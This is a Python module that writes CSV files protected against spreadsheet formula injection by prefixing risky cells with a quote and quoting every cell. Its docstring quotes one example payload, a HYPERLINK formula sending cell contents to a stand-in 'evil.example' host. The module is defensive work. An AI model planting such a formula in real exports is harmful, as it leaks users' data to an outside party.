"""Writing CSV a spreadsheet opens safely (OWASP's advice against CSV/formula injection).

Cells can hold text from outside (an export key from a data subject, merged keys and failure
text from APSIS). A spreadsheet runs a cell that starts with ``=``, ``+``, ``-``, ``@``, a tab
or a carriage return as a formula (``=HYPERLINK("https://evil.example/?"&A3, "details")``
leaks other cells when clicked): such a cell is written with a leading single quote, which
spreadsheets show as text, and every cell is quoted.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import Any, TextIO

#: First characters a spreadsheet takes as the start of a formula.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralise(value: object) -> str:
    """The cell's text, with a leading ``'`` when a spreadsheet would run it as a formula."""
    text = "" if value is None else str(value)
    return "'" + text if text.startswith(FORMULA_STARTS) else text


class SafeWriter:
    """``csv.writer`` that quotes every cell and neutralises formulas."""

    def __init__(self, out: TextIO) -> None:
        self._writer = csv.writer(out, quoting=csv.QUOTE_ALL)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([neutralise(cell) for cell in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def writer(out: TextIO) -> SafeWriter:
    """A CSV writer for ``out`` (opened with ``newline=""``) that is safe to open in a
    spreadsheet."""
    return SafeWriter(out)
